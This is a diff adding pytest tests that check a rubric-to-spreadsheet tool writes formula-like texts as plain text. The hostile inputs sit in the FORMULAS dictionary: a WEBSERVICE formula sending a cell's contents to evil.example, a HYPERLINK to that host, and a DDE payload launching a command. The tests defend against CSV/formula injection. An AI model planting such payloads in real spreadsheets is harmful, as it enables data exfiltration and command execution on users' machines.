@@ -412,3 +412,75 @@ def test_libreoffice_round_trip(tmp_path: Path, rubrics: dict[str, Rubric]) -> N
     assessment = reader.read_assessment(out / "filled.xlsx", rubric)
     assert {a.indicator: a.value for a in assessment.answers} == pytest.approx(expected)
     assert assessment.stamp is not None and assessment.stamp.hash == rubric.content_hash
+
+
+# --------------------------------------------------------------------------- texts are never formulas
+
+FORMULAS = {
+    "pillar": '=WEBSERVICE("http://evil.example/"&Institution!B2)',
+    "indicator": '=HYPERLINK("http://evil.example/","click")',
+    "question": "=cmd|' /C calc'!A0",
+    "level": "=1+1",
+}
+
+
+def _hostile_rubric(tmp_path: Path) -> Path:
+    text = MINI_RUBRIC.read_text("utf-8")
+    for old, new in (
+        ("name: {en: Alpha, zh: 甲}", f"name: {json.dumps(FORMULAS['pillar'])}"),
+        ("name: {en: A level, zh: 等级}", f"name: {json.dumps(FORMULAS['indicator'])}"),
+        ('question: {en: "How mature?", zh: 成熟度如何？}', f"question: {json.dumps(FORMULAS['question'])}"),
+        ("1: {en: some, zh: 少}", f"1: {json.dumps(FORMULAS['level'])}"),
+    ):
+        assert old in text
+        text = text.replace(old, new)
+    path = tmp_path / "hostile.yaml"
+    path.write_text(text, "utf-8")
+    return path
+
+
+def test_rubric_texts_that_look_like_formulas_are_written_as_text(tmp_path: Path) -> None:
+    from python_calamine import CalamineWorkbook
+
+    rubric = load_rubric(_hostile_rubric(tmp_path), use_cache=False)
+    path = _template(tmp_path, rubric, "en")
+
+    wb = openpyxl.load_workbook(path)
+    ws = wb["Responses"]
+    pillar_cells = [ws.cell(row=r, column=COL["pillar"]) for r in range(2, ws.max_row + 1)]
+    assert [c.value for c in pillar_cells if c.value == FORMULAS["pillar"]]
+    seen = set()
+    for sheet in wb.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if cell.value in FORMULAS.values():
+                    seen.add(cell.value)
+    assert seen == set(FORMULAS.values())
+    # python-calamine reads the cells as the texts they are (a formula has no cached value: "").
+    book = CalamineWorkbook.from_path(str(path))
+    cal = {
+        v for name in ("Responses", "Levels") for row in book.get_sheet_by_name(name).to_python() for v in row
+    }
+    assert set(FORMULAS.values()) <= cal
+
+
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
+def test_libreoffice_shows_formula_like_rubric_texts_as_text(tmp_path: Path) -> None:
+    rubric = load_rubric(_hostile_rubric(tmp_path), use_cache=False)
+    path = _template(tmp_path, rubric, "en")
+    out = tmp_path / "out"
+    done = subprocess.run(
+        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to",
+         "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
+         "--outdir", str(out), str(path)],
+        capture_output=True, text=True, timeout=300, check=False,
+    )  # fmt: skip
+    responses = out / f"{path.stem}-Responses.csv"
+    assert responses.is_file(), done.stdout + done.stderr
+    text = responses.read_text("utf-8")
+    assert FORMULAS["pillar"].replace('"', '""') in text  # the text itself, not a computed value
+    assert FORMULAS["indicator"].replace('"', '""') in text
+    assert FORMULAS["question"] in text
+    levels = (out / f"{path.stem}-Levels.csv").read_text("utf-8")
+    assert FORMULAS["level"] in levels
